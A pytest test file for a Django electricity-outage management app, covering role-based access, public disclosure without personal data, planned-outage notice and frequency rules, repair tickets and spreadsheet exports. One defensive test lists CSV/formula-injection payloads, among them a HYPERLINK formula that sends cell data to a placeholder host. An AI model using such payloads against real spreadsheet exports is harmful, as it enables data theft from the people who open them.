"""Pages and endpoints by role (404 outside the scope), the public disclosure without personal
data, planned outages (notice period, 一停多用, L28 warning) and repair tickets."""

from __future__ import annotations

import csv
import datetime as dt
from io import BytesIO, StringIO
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from getelec.outages import services
from getelec.outages.models import (
    CustomerNotice,
    District,
    Feeder,
    LedgerEntry,
    Meter,
    PlannedOutage,
)
from getelec.outages.tests.conftest import PASSWORD

pytestmark = pytest.mark.django_db

T1 = "2026TQ-T1"
DESK = ["ledger", "warnings", "planned", "repairs", "dashboard", "ledger_xlsx"]


def _client(user: Any | None) -> Client:
    c = Client()
    if user is not None:
        assert c.login(username=user.username, password=PASSWORD)
    return c


@pytest.mark.parametrize(
    ("who", "expected"),
    [
        (None, 302),  # to the login page
        ("customer", 404),
        ("department", 404),
        ("staff_a", 200),
        ("staff_b", 200),
        ("regulator", 200),
        ("admin", 200),
    ],
)
@pytest.mark.parametrize("page", DESK)
def test_desk_pages_by_role(
    refreshed: Any, users: dict[str, Any], who: str | None, expected: int, page: str
) -> None:
    response = _client(users.get(who) if who else None).get(reverse(f"outages:{page}"))
    assert response.status_code == expected


@pytest.mark.parametrize(
    ("who", "expected"),
    [(None, 302), ("customer", 404), ("staff_a", 200), ("staff_b", 404), ("regulator", 200)],
)
def test_an_entry_is_visible_only_to_its_company_and_the_regulators(
    refreshed: Any, users: dict[str, Any], who: str | None, expected: int
) -> None:
    client = _client(users.get(who) if who else None)
    assert client.get(reverse("outages:entry", args=[T1])).status_code == expected
    api = client.get(reverse("api:quality_entry", args=[T1]))
    assert api.status_code == (200 if expected == 200 else 404)


@pytest.mark.parametrize(
    ("who", "count"), [(None, 0), ("customer", 0), ("staff_a", 3), ("staff_b", 0), ("regulator", 3)]
)
def test_the_ledger_api_lists_only_the_users_scope(
    refreshed: Any, users: dict[str, Any], who: str | None, count: int
) -> None:
    response = _client(users.get(who) if who else None).get(reverse("api:quality_ledger"))
    assert response.status_code == 200 and response.json()["count"] == count


@pytest.mark.parametrize(
    ("who", "expected"), [(None, 302), ("staff_a", 404), ("regulator", 200), ("admin", 200)]
)
def test_the_regulator_overview_is_for_regulators_only(
    refreshed: Any, users: dict[str, Any], who: str | None, expected: int
) -> None:
    response = _client(users.get(who) if who else None).get(reverse("outages:regulator"))
    assert response.status_code == expected


def test_staff_can_not_act_on_another_companys_entry(refreshed: Any, users: dict[str, Any]) -> None:
    response = _client(users["staff_b"]).post(
        reverse("outages:entry_action", args=[T1, "plan"]),
        {"version": 1, "measures": "x", "target_on": "2026-12-31", "responsible_team": "y"},
    )
    assert response.status_code == 404
    assert LedgerEntry.objects.get(number=T1).status == "identified"


def test_staff_plan_a_rectification_on_the_web(
    refreshed: Any, users: dict[str, Any], frozen: Any
) -> None:
    client = _client(users["staff_a"])
    url = reverse("outages:entry_action", args=[T1, "plan"])
    bad = client.post(url, {"version": 1, "measures": "整线成片", "target_on": "2026-01-01",
                            "responsible_team": "运维一班"})  # fmt: skip
    assert bad.status_code == 422 and "计划完成日期不能早于今天" in bad.content.decode()
    ok = client.post(url, {"version": 1, "measures": "整线成片", "target_on": "2026-12-31",
                           "responsible_team": "运维一班", "budget_wan": "12.5"})  # fmt: skip
    assert ok.status_code == 302
    assert LedgerEntry.objects.get(number=T1).status == "planned"


PERSONAL = ["解放西街1号楼101", "13912345678", "640104199001011234", "customer"]


def test_the_public_disclosure_shows_status_measures_and_no_personal_data(
    refreshed: Any, users: dict[str, Any], frozen: Any
) -> None:
    meter = Meter.objects.get(meter_id="M01")
    services.bind_meter(users["staff_a"], meter, users["customer"])
    entry = LedgerEntry.objects.get(number=T1)
    services.plan_rectification(
        users["staff_a"], entry, measures="更换老旧导线", target_on=dt.date(2026, 12, 31),
        responsible_team="运维一班",
    )  # fmt: skip
    client = Client()
    page = client.get(reverse("outages:disclosure"), {"q": "解放"}).content.decode()
    assert "解放西街1号台区" in page and "更换老旧导线" in page and "2026-12-31" in page
    assert "整改计划已制定" in page
    csv_text = client.get(reverse("outages:disclosure_csv")).content.decode("utf-8-sig")
    xlsx = client.get(reverse("outages:disclosure_xlsx")).content
    cells = " ".join(
        str(c) for row in load_workbook(BytesIO(xlsx)).active.iter_rows(values_only=True)
        for c in row if c is not None
    )  # fmt: skip
    api = client.get(reverse("api:quality_public")).content.decode()
    lookup = client.get(reverse("outages:lookup"), {"q": "M01"}).content.decode()
    assert "更换老旧导线" in csv_text and "更换老旧导线" in cells and "解放西街1号台区" in lookup
    for text in (page, csv_text, cells, api, lookup):
        for secret in PERSONAL:
            assert secret not in text


def test_the_disclosure_is_searchable_by_region(refreshed: Any) -> None:
    client = Client()
    assert (
        "解放西街1号台区"
        in client.get(reverse("outages:disclosure"), {"region": "640100"}).content.decode()
    )
    other = client.get(reverse("outages:disclosure"), {"region": "640200"}).content.decode()
    assert "解放西街1号台区" not in other


# --------------------------------------------------------------------------------------------
# Planned outages
# --------------------------------------------------------------------------------------------


def _aware(text: str) -> dt.datetime:
    from django.utils import timezone

    return timezone.make_aware(dt.datetime.fromisoformat(text))


def test_a_planned_outage_needs_the_notice_period_from_policy_data(
    refreshed: Any, users: dict[str, Any], frozen: Any
) -> None:
    feeder = Feeder.objects.get(feeder_id="F2")
    with pytest.raises(services.InvalidInput) as exc:
        services.create_planned_outage(
            users["staff_b"], feeder=feeder, districts=[], work="更换配变",
            start=_aware("2026-12-02 08:00"), end=_aware("2026-12-02 12:00"),
        )  # fmt: skip
    assert exc.value.field == "start" and "7天" in exc.value.message
    assert "第二十八条" in exc.value.message and "2026-12-03" in exc.value.message
    assert not PlannedOutage.objects.exists()


def test_a_planned_outage_that_would_make_a_district_frequent_must_be_confirmed(
    refreshed: Any, users: dict[str, Any], frozen: Any
) -> None:
    # T3 has 4 counted outages this year: one more planned one is still ≤ 5, two are not.
    feeder = Feeder.objects.get(feeder_id="F1")
    t3 = District.objects.get(district_id="T3")
    first = services.create_planned_outage(
        users["staff_a"], feeder=feeder, districts=[t3], work="线路检修",
        start=_aware("2026-12-05 08:00"), end=_aware("2026-12-05 12:00"),
    )  # fmt: skip
    assert first.frequent_warning == []
    check = services.check_planned(feeder, [t3], _aware("2026-12-10 08:00"))
    assert [w["district_id"] for w in check.warnings] == ["T3"]
    assert check.warnings[0]["breaches"] == ["year_limit"] and check.merge_candidates == [first]
    with pytest.raises(services.InvalidInput) as exc:
        services.create_planned_outage(
            users["staff_a"], feeder=feeder, districts=[t3], work="更换开关",
            start=_aware("2026-12-10 08:00"), end=_aware("2026-12-10 12:00"),
        )  # fmt: skip
    assert exc.value.field == "confirm_warning" and "掌政村3号台区" in exc.value.message
    second = services.create_planned_outage(
        users["staff_a"], feeder=feeder, districts=[t3], work="更换开关",
        start=_aware("2026-12-10 08:00"), end=_aware("2026-12-10 12:00"),
        confirm_warning=True, merge_with=[first],
    )  # fmt: skip
    assert second.frequent_warning[0]["district_id"] == "T3"
    assert list(second.merged_with.all()) == [first]


def test_a_planned_outage_notifies_the_customers_of_its_districts(
    refreshed: Any, users: dict[str, Any], frozen: Any
) -> None:
    from getelec.outages.models import CustomerNotice

    feeder = Feeder.objects.get(feeder_id="F1")
    t3 = District.objects.get(district_id="T3")
    meter = Meter.objects.filter(district=t3).order_by("meter_id").first()
    services.bind_meter(users["staff_a"], meter, users["customer"])
    outage = services.create_planned_outage(
        users["staff_a"], feeder=feeder, districts=[t3], work="线路检修",
        start=_aware("2026-12-05 08:00"), end=_aware("2026-12-05 12:00"),
    )  # fmt: skip
    notice = CustomerNotice.objects.get(user=users["customer"], channel="outbox")
    assert notice.kind == CustomerNotice.Kind.PLANNED and notice.planned_outage == outage
    assert "2026-12-05 08:00" in notice.text


def test_a_planned_outage_within_the_merge_window_of_another_is_not_counted_twice(
    refreshed: Any, users: dict[str, Any], frozen: Any
) -> None:
    feeder = Feeder.objects.get(feeder_id="F1")
    t3 = District.objects.get(district_id="T3")
    services.create_planned_outage(
        users["staff_a"], feeder=feeder, districts=[t3], work="检修",
        start=_aware("2026-12-05 08:00"), end=_aware("2026-12-05 10:00"),
    )  # fmt: skip
    check = services.check_planned(feeder, [t3], _aware("2026-12-05 11:00"))
    assert check.warnings == []


# --------------------------------------------------------------------------------------------
# Repair tickets and notices
# --------------------------------------------------------------------------------------------


def test_a_repair_ticket_measures_arrival_against_the_area_commitment_and_notifies(
    refreshed: Any, users: dict[str, Any], frozen: Any
) -> None:
    services.bind_meter(users["staff_b"], Meter.objects.get(meter_id="M07"), users["customer"])
    t4 = District.objects.get(district_id="T4")  # rural: 90 minutes
    ticket = services.open_repair(
        users["staff_b"], district=t4, description="10千伏星海线跳闸",
        accepted_at=_aware("2026-11-26 07:00"),
    )  # fmt: skip
    assert ticket.commitment_minutes == 90
    with pytest.raises(services.Conflict):
        services.advance_repair(users["staff_b"], ticket, stage="arrived")
    services.advance_repair(users["staff_b"], ticket, stage="dispatched",
                            at=_aware("2026-11-26 07:10"))  # fmt: skip
    ticket = services.advance_repair(users["staff_b"], ticket, stage="arrived",
                                     at=_aware("2026-11-26 08:31"))  # fmt: skip
    assert ticket.arrival_minutes == 91 and ticket.late
    regulator_page = _client(users["regulator"]).get(reverse("outages:regulator"))
    assert ticket.number in regulator_page.content.decode()
    notices = CustomerNotice.objects.filter(user=users["customer"], channel="outbox")
    assert notices.count() == 3
    mine = _client(users["customer"]).get(reverse("outages:my_power")).content.decode()
    assert "到达现场" in mine and ticket.number in mine
    public = Client().get(reverse("outages:lookup"), {"q": "M07"}).content.decode()
    assert ticket.number in public and "到达现场" in public
    assert "13912345678" not in public


def test_staff_of_another_company_cannot_open_a_repair_ticket(
    refreshed: Any, users: dict[str, Any]
) -> None:
    with pytest.raises(services.NotAllowed):
        services.open_repair(
            users["staff_a"], district=District.objects.get(district_id="T4"), description="x"
        )


FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1,"详情")', "+1+1", "-1+1", "@SUM(1)"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_staff_text_never_becomes_a_formula_in_the_disclosure_or_the_ledger_export(
    refreshed: Any, users: dict[str, Any], frozen: Any, formula: str
) -> None:
    """OWASP CSV injection: the public .csv/.xlsx and the quality ledger export keep it text."""
    entry = LedgerEntry.objects.get(number=T1)
    services.plan_rectification(
        users["staff_a"], entry, measures=formula, target_on=dt.date(2026, 12, 31),
        responsible_team=formula,
    )  # fmt: skip
    public = Client()
    csv_cells = [
        cell
        for row in csv.reader(
            StringIO(public.get(reverse("outages:disclosure_csv")).content.decode("utf-8-sig"))
        )
        for cell in row
    ]
    assert "'" + formula in csv_cells
    for response in (
        public.get(reverse("outages:disclosure_xlsx")),
        _client(users["regulator"]).get(reverse("outages:ledger_xlsx")),
    ):
        cells = [c for row in load_workbook(BytesIO(response.content)).active.iter_rows()
                 for c in row]  # fmt: skip
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert "'" + formula in [c.value for c in cells]
    for cell in csv_cells:
        assert not cell.startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize(
    ("key", "prefix"),
    [("nea", "64"), ("drc", "64"), ("regulator_city", "6401"), ("regulator_county", "640104"),
     ("energy_city", None), ("energy_province", None), ("department_province", None)],
)  # fmt: skip
def test_the_quality_ledger_is_read_by_organisation_within_its_region(
    refreshed: Any, organisation_users: dict[str, Any], key: str, prefix: str | None
) -> None:
    """A city energy authority (a regulator by role) reads no quality ledger; a regulator reads
    the entries of its own region only."""
    from getelec.outages import selectors

    seen = set(selectors.entries_for(organisation_users[key]).values_list("number", flat=True))
    expected = (
        set()
        if prefix is None
        else set(
            LedgerEntry.objects.filter(region__code__startswith=prefix).values_list(
                "number", flat=True
            )
        )
    )
    assert seen == expected
    client = Client()
    client.force_login(organisation_users[key])
    status = client.get(reverse("outages:ledger")).status_code
    assert status == (404 if prefix is None else 200)


def test_the_warning_page_names_each_rule_in_chinese_with_its_thresholds(
    refreshed: Any, users: dict[str, Any]
) -> None:
    """T3: 4 in the year (warn_year), T4: 2 in the last 30 days (warn_short): the page shows the
    rule with the thresholds from policy data, never the engine's code."""
    body = _client(users["regulator"]).get(reverse("outages:warnings")).content.decode()
    assert "warn_" not in body
    assert "年内4–5次" in body and "最近30天2次" in body


def test_the_notice_list_names_the_channel_in_chinese(
    refreshed: Any, users: dict[str, Any]
) -> None:
    services.bind_meter(users["staff_b"], Meter.objects.get(meter_id="M07"), users["customer"])
    services.open_repair(
        users["staff_b"], district=District.objects.get(district_id="T4"),
        description="10千伏星海线跳闸", accepted_at=_aware("2026-11-26 07:00"),
    )  # fmt: skip
    body = _client(users["staff_b"]).get(reverse("outages:notices")).content.decode()
    assert "<td>站内通知</td>" in body and "<td>outbox</td>" not in body


def test_the_api_names_the_windowed_count_and_keeps_max_count_60_for_one_release(
    refreshed: Any, users: dict[str, Any]
) -> None:
    client = _client(users["regulator"])
    entry = client.get(reverse("api:quality_entry", args=["2026TQ-T2"])).json()
    # L28: more than 3 in 60 consecutive days; the window length comes from policy data.
    assert (entry["max_count_window"], entry["window_days"]) == (4, 60)
    assert entry["max_count_60"] == entry["max_count_window"]  # deprecated alias
    rows = client.get(reverse("api:quality_ledger")).json()["items"]
    assert rows and all(r["max_count_60"] == r["max_count_window"] for r in rows)
    assert all(r["window_days"] == 60 for r in rows)
    warnings = client.get(reverse("api:quality_warnings")).json()
    assert all(w["max_count_60"] == w["max_count_window"] for w in warnings)
    schema = Client().get("/api/openapi.json").json()["components"]["schemas"]
    for name in ("EntryOut", "EntryDetailOut", "WarningOut"):
        props = schema[name]["properties"]
        assert props["max_count_60"].get("deprecated") is True, name
        assert "已弃用" in props["max_count_60"]["description"], name
        assert {"max_count_window", "window_days"} <= set(props), name
